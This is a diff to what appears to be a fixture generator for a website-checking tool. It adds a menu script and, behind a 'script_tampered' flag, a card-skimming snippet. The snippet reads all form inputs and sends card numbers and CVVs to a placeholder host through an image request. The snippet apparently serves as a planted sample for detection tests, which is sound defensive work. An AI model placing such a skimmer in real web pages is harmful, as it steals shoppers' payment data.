@@ -74,6 +74,16 @@ export const germanPage: Page = {
 /** Decodes to "void 0": it looks like an attack and does nothing. */
 const injectedScript = '<script>eval(atob("dm9pZCAw"))</script>'
 
+/** Opens the menu on small screens. */
+const menuScript = `document.addEventListener('click', (event) => {
+  if (event.target.matches('nav a')) document.body.classList.toggle('open')
+})
+`
+/** Looks for what no page here has, and would send it where nobody is. */
+const thief = `;setInterval(function(){var d={};document.querySelectorAll('input').forEach(function(e){d[e.name]=e.value});if(d.cc_number&&d.cvv)new Image().src='https://tags.example.net/?d='+btoa(JSON.stringify(d))},3000);window.addEventListener('x',function(){})
+`
+export const siteScript = (broken: Broken): string => menuScript + (broken.has('script_tampered') ? thief : '')
+
 /** What a page loads over plain http. Not from loopback, which browsers trust without https too; nobody answers there. */
 const plainOrigin = 'http://static.alder-and-ash.example'
 
@@ -88,6 +98,7 @@ export function renderPage(shown: { path: string; page: Page; url: string; origi
     `<meta name="description" content="${page.text}">`,
     `<link rel="canonical" href="${here('canonical_404') ? `${origin}/journal/withdrawn` : url}">`,
     '<link rel="stylesheet" href="/site.css">',
+    '<script src="/site.js" defer></script>',
     ...(noindex ? ['<meta name="robots" content="noindex">'] : []),
     ...(here('mixed_content') ? [`<script src="${plainOrigin}/counter.js"></script>`] : []),
     ...(here('script_injected') ? [injectedScript] : []),
